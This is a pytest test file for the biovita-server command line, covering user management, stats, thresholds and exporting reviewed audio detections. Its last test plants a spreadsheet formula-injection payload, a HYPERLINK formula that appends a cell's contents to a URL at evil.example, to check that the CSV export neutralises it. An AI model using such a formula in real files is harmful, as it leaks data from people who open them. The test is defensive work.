"""The biovita-server command line: migrate, users, stats, thresholds, export-reviewed."""

from __future__ import annotations

import csv
import io
import json

import pytest
import tomllib

from biovita.manifest import read_manifest
from server_sync.cli import main
from server_sync.records import Verdict
from server_sync.store import open_store
from tests.server.seed import seed


@pytest.fixture
def data(tmp_path):
    store = open_store(f"sqlite://{tmp_path / 'server.db'}")
    world = seed(store, tmp_path)
    owls = sorted((d for d in world.detections if d.species_id == "sp_owl"), key=lambda d: d.score)
    store.add_reviews([d.id for d in owls[:2]], "ann", Verdict.REJECT)
    store.add_reviews([d.id for d in owls[2:]], "ann", Verdict.CONFIRM)
    store.add_reviews([world.detections[1].id], "bob", Verdict.RELABEL, species_id="sp_nightjar")
    store.close()
    return tmp_path, world, owls


def test_migrate_users_and_stats(data, capsys, monkeypatch):
    root, _, _ = data
    assert main(["migrate", "--data", str(root)]) == 0
    monkeypatch.setattr("sys.stdin", io.StringIO("a-long-password\n"))
    assert (
        main(["users", "add", "carol", "--role", "admin", "--password-stdin", "--data", str(root)])
        == 0
    )
    assert main(["users", "list", "--data", str(root)]) == 0
    assert "carol\tadmin" in capsys.readouterr().out
    assert main(["users", "remove", "carol", "--data", str(root)]) == 0  # root is an admin too
    assert "carol removed" in capsys.readouterr().out
    assert main(["users", "remove", "carol", "--data", str(root)]) == 2
    assert "there is no user 'carol'" in capsys.readouterr().err
    assert main(["users", "remove", "root", "--data", str(root)]) == 2
    assert "the only admin" in capsys.readouterr().err
    monkeypatch.setattr("sys.stdin", io.StringIO("short\n"))
    assert main(["users", "add", "dave", "--password-stdin", "--data", str(root)]) == 2
    assert "shorter than" in capsys.readouterr().err
    assert main(["stats", "--json", "--data", str(root)]) == 0
    stats = json.loads(capsys.readouterr().out)
    assert stats["detections"] == 30 and stats["devices"] == 3 and stats["reviewed_detections"] == 9


def test_thresholds_and_export_reviewed(data, capsys):
    root, world, owls = data
    assert main(["thresholds", "--data", str(root)]) == 0
    table = tomllib.loads(capsys.readouterr().out)["classify"]["species_thresholds"]
    assert table == {"sp_owl": pytest.approx(owls[2].score, abs=1e-4)}

    out = root / "export" / "manifest.csv"
    assert main(["export-reviewed", "--out", str(out), "--data", str(root)]) == 0
    assert "7 reviewed clips" in capsys.readouterr().out
    rows = {r.source.rsplit(":", 1)[1]: r for r in read_manifest(out, check_files=True)}
    assert set(rows) == {d.id for d in owls[2:]} | {world.detections[1].id}
    assert rows[world.detections[1].id].species_id == "sp_nightjar"
    assert all(r.split == "train" and r.audio_path.suffix == ".flac" for r in rows.values())


def test_bad_database_url_is_a_clear_error(capsys):
    assert main(["stats", "--db", "mysql://nope"]) == 2
    assert "neither SQLite nor PostgreSQL" in capsys.readouterr().err


def test_export_reviewed_escapes_cells_a_spreadsheet_would_run(data, capsys):
    root, world, _ = data
    store = open_store(f"sqlite://{root / 'server.db'}")
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    store.add_reviews([world.detections[3].id], "ann", Verdict.RELABEL, species_id=formula)
    store.close()
    out = root / "export" / "manifest.csv"
    assert main(["export-reviewed", "--out", str(out), "--data", str(root)]) == 0
    cells = [row[1] for row in csv.reader(out.open(encoding="utf-8"))][1:]
    assert "'" + formula in cells and formula not in cells
    assert all(not c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)
